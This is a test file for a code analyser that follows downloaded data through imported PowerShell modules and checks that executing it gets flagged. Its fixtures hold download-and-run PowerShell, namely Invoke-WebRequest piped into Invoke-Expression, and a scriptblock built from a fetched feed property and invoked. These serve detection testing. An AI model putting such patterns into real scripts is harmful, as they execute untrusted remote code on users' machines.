import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Functions of the modules a PowerShell script imports or dot-sources (src/model/imported-ps-modules.ts
 * passes their texts as libraries): called at the script's call with its arguments, what they return is
 * the script's value, and what they do is reported at that call. Look-alikes: a module function the
 * script never calls, a downloaded value only printed.
 */

const MODULE =
  'function Get-Feed {\n  param([string]$Base)\n  $doc = Invoke-RestMethod -Uri "$Base/feed.json"\n' +
  '  return [pscustomobject]@{ Items = $doc.items; After = $doc.after }\n}\n' +
  'function Remove-Cache { Invoke-WebRequest https://other.example-cdn.net/x.ps1 | Invoke-Expression }\n';

describe('functions of imported PowerShell modules', () => {
  it('a property of what a module function downloaded, made a script block and invoked, runs downloaded code', async () => {
    const script =
      "Import-Module (Join-Path $PSScriptRoot 'Feed.psm1')\n$f = Get-Feed -Base 'https://feed.example-mirror.net'\n" +
      '$f.Items | Format-Table\n& ([scriptblock]::Create($f.After))\n';
    const r = await factsOf('powershell', script, { libraries: [MODULE] });
    const runs = ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'));
    expect(runs).toHaveLength(1);
    expect(runs[0]!.at.startLine).toBe(4);
    // The module's request is reported at the call in the script.
    const fetch = ofKind(r, 'fetch')[0]!;
    expect(fetch.endpoint.host).toBe('feed.example-mirror.net');
    expect(fetch.at.startLine).toBe(2);
    // Remove-Cache is never called: the module's own facts hold it, not the script's.
    expect(ofKind(r, 'fetch').some((b) => b.endpoint.host === 'other.example-cdn.net')).toBe(false);
  });

  it('a downloaded property only printed runs nothing; the script’s own function wins over a module’s', async () => {
    const script =
      'function Get-Feed { return [pscustomobject]@{ After = "Write-Host done" } }\n' +
      '$f = Get-Feed -Base \'https://feed.example-mirror.net\'\nWrite-Host "next: $($f.After)"\n& ([scriptblock]::Create($f.After))\n';
    const r = await factsOf('powershell', script, { libraries: [MODULE] });
    expect(ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'))).toEqual([]);
    expect(ofKind(r, 'fetch')).toEqual([]);
  });
});
